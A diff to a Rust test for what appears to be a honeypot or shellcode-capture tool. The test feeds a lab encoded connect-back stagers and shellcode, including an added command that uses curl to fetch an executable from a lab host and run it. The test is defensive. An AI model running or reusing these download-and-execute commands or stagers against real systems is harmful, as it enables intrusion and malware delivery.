@@ -440,14 +440,14 @@ fn shellcode_connect_backs_and_urls_are_followed() {
     if !lab_tools("shellcode_connect_backs_and_urls_are_followed") {
         return;
     }
-    let (a, f, u) = (sample(31, 20_000), sample(32, 60_000), sample(33, 9_000));
+    let (a, f, u, v) = (sample(31, 20_000), sample(32, 60_000), sample(33, 9_000), sample(34, 7_000));
     let sigs = concat!(env!("CARGO_MANIFEST_DIR"), "/contrib/shellcode-signatures.sc");
     let extra = format!(
         "download_timeout = \"4\"\n\
          plugin-cspm = {{\n shellcode_sigfile = \"{sigs}\"\n follow_connectback = \"yes\"\n}}\n\
          plugin-logEvents = {{ logfile = \"EVENTS\" }}"
     );
-    let lab = Lab::start("download_tcp_lab_cspm", &[("u.exe", &u)], &[(4444, &a), (4450, &f)], &extra);
+    let lab = Lab::start("download_tcp_lab_cspm", &[("u.exe", &u), ("v.exe", &v)], &[(4444, &a), (4450, &f)], &extra);
 
     // An encoded stager: the stage is what the connect-back reads.
     let stager = win_connect(sa("10.77.0.2:4450"), b"\x6a\x00\x6a\x04\x56\x57\x68\x02\xd9\xc8\x5f\xff\xd5");
@@ -484,6 +484,10 @@ fn shellcode_connect_backs_and_urls_are_followed() {
     // A URL in encoded shellcode is fetched.
     lab.attack_bytes(&xor_encoded(b"\x90\x90http://10.77.0.2/u.exe\x00\x90", 0x23));
     lab.expect_download("u.exe", &u);
+
+    // So is what a command in encoded shellcode downloads.
+    lab.attack_bytes(&xor_encoded(b"\x90cmd.exe /c curl -o w.exe http://10.77.0.2/v.exe & w.exe\x00", 0x5c));
+    lab.expect_download("w.exe", &v);
 
     // A connect-back to loopback is refused by the download address policy.
     lab.attack_bytes(&win_connect(sa("127.0.0.1:4450"), b"\x68\x02\xd9\xc8\x5f\xff\xd5"));
